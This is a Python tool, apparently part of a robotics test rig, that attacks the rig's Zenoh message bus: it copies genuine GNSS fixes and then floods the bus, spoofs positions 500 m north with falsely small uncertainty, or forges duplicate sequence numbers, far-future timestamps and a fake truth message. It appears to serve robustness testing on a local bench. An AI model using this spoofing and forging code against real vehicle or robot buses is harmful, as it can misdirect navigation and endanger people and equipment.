"""A stranger on the rig's bus: flood, spoof and forge, with nothing but zenoh-python.

    python tools/bus_attack.py --connect tcp/127.0.0.1:7447 --rig bench flood --n 20000 --seconds 5
    python tools/bus_attack.py --connect ... --rig bench spoof --north-m 500 --sigma-m 0.5 --seconds 10
    python tools/bus_attack.py --connect ... --rig bench forge

Deliberately not built on ``hil``: it speaks the rig's JSON by hand, as any process on the machine
could (issue 18), with a plain Zenoh publisher (no source info, no sequence numbers). It listens
first -- the run (``hil/<rig>/run``: time zero and speed, to stamp in rig time) and the genuine
fixes (``sensor/gnss``, ``synced/gnss``), whose fields it copies, so what it sends passes every
schema check -- then:

- ``flood``: ``--n`` copies of the newest genuine fix, spread evenly over ``--seconds``, on each
  of ``--keys`` (default ``synced/gnss,sensor/gnss``), stamped at the current rig time, seqs from
  ``--seq-base`` up;
- ``spoof``: for ``--seconds``, each genuine ``synced/gnss`` fix again, ``--north-m`` further
  north and claiming σ ``--sigma-m``, on ``synced/gnss`` with its own seqs (``--seq-base`` up);
- ``forge``: a duplicate of a genuine fix (same seq, moved 30 m), a fix of seq 10⁹, one stamped
  10⁶ s ahead, on ``synced/gnss`` and ``sensor/gnss``, and a truth of seq 10⁹, each ``--repeat``
  times a second for ``--seconds``.

``--start-after S`` waits until rig time S. The last line on stdout is a JSON summary of what was
sent (rig time of the first and last message, counts per key).
"""

from __future__ import annotations

import argparse
import copy
import json
import sys
import threading
import time
from typing import Any

import zenoh

NS = 1_000_000_000


class Listener:
    """The run and the newest genuine fixes, as a stranger reading the bus sees them."""

    def __init__(self, session: zenoh.Session, rig: str) -> None:
        self.lock = threading.Lock()
        self.run: dict[str, Any] | None = None
        self.fix: dict[str, dict[str, Any]] = {}
        self.new_synced = threading.Condition(self.lock)
        self.synced_count = 0
        self._subs = [
            session.declare_subscriber(f"hil/{rig}/run", self._on_run),
            session.declare_subscriber(f"hil/{rig}/sensor/gnss", lambda s: self._on_fix("sensor", s)),
            session.declare_subscriber(f"hil/{rig}/synced/gnss", lambda s: self._on_fix("synced", s)),
        ]

    def _on_run(self, sample: zenoh.Sample) -> None:
        with self.lock:
            self.run = json.loads(sample.payload.to_bytes())

    def _on_fix(self, kind: str, sample: zenoh.Sample) -> None:
        if sample.source_info is None:  # our own (plain) puts come back: not genuine
            return
        body = json.loads(sample.payload.to_bytes())
        batch = body if isinstance(body, list) else [body]  # a batch (docs/topics.md): each in turn
        if not batch:
            return
        with self.lock:
            self.fix[kind] = batch[-1]
            if kind == "synced":
                self.synced_count += len(batch)
                self.new_synced.notify_all()

    def rig_now_ns(self) -> int:
        assert self.run is not None
        return int((time.time_ns() - self.run["start_epoch_ns"]) * self.run["speed"])

    def wait_ready(self, timeout_s: float, start_after_s: float) -> None:
        deadline = time.monotonic() + timeout_s
        while time.monotonic() < deadline:
            with self.lock:
                ready = self.run is not None and "sensor" in self.fix and "synced" in self.fix
            if ready and self.rig_now_ns() >= start_after_s * NS:
                return
            time.sleep(0.02)
        raise SystemExit(f"bus_attack: no run and genuine fixes on the bus within {timeout_s} s")


def _open(connect: str) -> zenoh.Session:
    conf = zenoh.Config()
    conf.insert_json5("mode", '"peer"')
    conf.insert_json5("scouting/multicast/enabled", "false")
    conf.insert_json5("connect/endpoints", json.dumps([connect]))
    conf.insert_json5("listen/endpoints", '["tcp/127.0.0.1:0"]')
    return zenoh.open(conf)


def _restamp(fix: dict[str, Any], seq: int, stamp_ns: int) -> dict[str, Any]:
    out = dict(fix)  # shallow: only scalars change
    out.update(seq=seq, stamp_ns=stamp_ns, device_stamp_ns=stamp_ns, rx_stamp_ns=stamp_ns)
    return out


def flood(a: argparse.Namespace, s: zenoh.Session, lis: Listener) -> dict[str, Any]:
    keys = [k for k in a.keys.split(",") if k]
    pubs = {k: s.declare_publisher(f"hil/{a.rig}/{k}") for k in keys}
    counts = dict.fromkeys(keys, 0)
    t0 = time.monotonic()
    first = lis.rig_now_ns()
    for i in range(a.n):
        due = t0 + a.seconds * i / a.n
        while (wait := due - time.monotonic()) > 0:
            time.sleep(min(wait, 0.002))
        now = lis.rig_now_ns()
        for k, pub in pubs.items():
            with lis.lock:
                base = lis.fix["synced" if k.startswith("synced") else "sensor"]
            pub.put(json.dumps(_restamp(base, a.seq_base + i, now)).encode())
            counts[k] += 1
    return {"mode": "flood", "first_rig_ns": first, "last_rig_ns": lis.rig_now_ns(), "sent": counts}


def spoof(a: argparse.Namespace, s: zenoh.Session, lis: Listener) -> dict[str, Any]:
    pub = s.declare_publisher(f"hil/{a.rig}/synced/gnss")
    first = lis.rig_now_ns()
    end = time.monotonic() + a.seconds
    sent, stamps = 0, []
    with lis.lock:
        seen = lis.synced_count
    while time.monotonic() < end:
        with lis.lock:
            lis.new_synced.wait_for(lambda n=seen: lis.synced_count > n, timeout=1.0)
            seen = lis.synced_count
            fix = copy.deepcopy(lis.fix["synced"])
        fix["seq"] = a.seq_base + sent
        fix["pos_ned_m"][0] += a.north_m
        fix["lat_deg"] += a.north_m / 111_194.9  # a spherical Earth is good enough for a spoofer
        fix["pos_sigma_m"] = [a.sigma_m] * 3
        pub.put(json.dumps(fix).encode())
        stamps.append(fix["stamp_ns"])
        sent += 1
    return {
        "mode": "spoof",
        "first_rig_ns": first,
        "last_rig_ns": lis.rig_now_ns(),
        "first_fix_ns": stamps[0] if stamps else None,
        "last_fix_ns": stamps[-1] if stamps else None,
        "sent": {"synced/gnss": sent},
    }


def forge(a: argparse.Namespace, s: zenoh.Session, lis: Listener) -> dict[str, Any]:
    keys = ("synced/gnss", "sensor/gnss")
    pubs = {k: s.declare_publisher(f"hil/{a.rig}/{k}") for k in (*keys, "truth")}
    counts = dict.fromkeys(pubs, 0)
    first = lis.rig_now_ns()
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        now = lis.rig_now_ns()
        for k in keys:
            with lis.lock:
                genuine = copy.deepcopy(lis.fix["synced" if k.startswith("synced") else "sensor"])
            dup = copy.deepcopy(genuine)  # same seq as the rig's, another place and time
            dup["pos_ned_m"][0] += 30.0
            dup["stamp_ns"] += 1_000_000
            for msg in (dup, _restamp(genuine, 10**9, now), _restamp(genuine, 10**9 + 1, now + 10**6 * NS)):
                pubs[k].put(json.dumps(msg).encode())
                counts[k] += 1
        truth = {
            "seq": 10**9,
            "stamp_ns": now + 10**6 * NS,
            "lat_deg": 0.0,
            "lon_deg": 0.0,
            "alt_m": 0.0,
            "pos_ned_m": [0.0, 0.0, 0.0],
            "vel_ned_mps": [0.0, 0.0, 0.0],
            "q_nb": [1.0, 0.0, 0.0, 0.0],
            "f_b_mps2": [0.0, 0.0, 0.0],
            "w_ib_b_radps": [0.0, 0.0, 0.0],
        }
        pubs["truth"].put(json.dumps(truth).encode())
        counts["truth"] += 1
        time.sleep(1.0 / a.repeat)
    return {"mode": "forge", "first_rig_ns": first, "last_rig_ns": lis.rig_now_ns(), "sent": counts}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--connect", required=True, help="a Zenoh endpoint of the rig, e.g. tcp/127.0.0.1:7447")
    ap.add_argument("--rig", default="bench")
    ap.add_argument("--start-after", type=float, default=0.0, help="rig seconds to wait for")
    ap.add_argument("--wait", type=float, default=60.0, help="seconds to wait for the rig")
    ap.add_argument("--seq-base", type=int, default=1_000_000)
    sub = ap.add_subparsers(dest="mode", required=True)
    f = sub.add_parser("flood")
    f.add_argument("--n", type=int, default=20_000)
    f.add_argument("--seconds", type=float, default=5.0)
    f.add_argument("--keys", default="synced/gnss,sensor/gnss")
    p = sub.add_parser("spoof")
    p.add_argument("--north-m", type=float, default=500.0)
    p.add_argument("--sigma-m", type=float, default=0.5)
    p.add_argument("--seconds", type=float, default=10.0)
    g = sub.add_parser("forge")
    g.add_argument("--seconds", type=float, default=3.0)
    g.add_argument("--repeat", type=float, default=5.0)
    a = ap.parse_args(argv)
    s = _open(a.connect)
    try:
        lis = Listener(s, a.rig)
        lis.wait_ready(a.wait, a.start_after)
        summary = {"flood": flood, "spoof": spoof, "forge": forge}[a.mode](a, s, lis)
        time.sleep(0.5)  # let the reliable queues drain before the session goes
    finally:
        s.close()
    sys.stdout.write(json.dumps(summary) + "\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
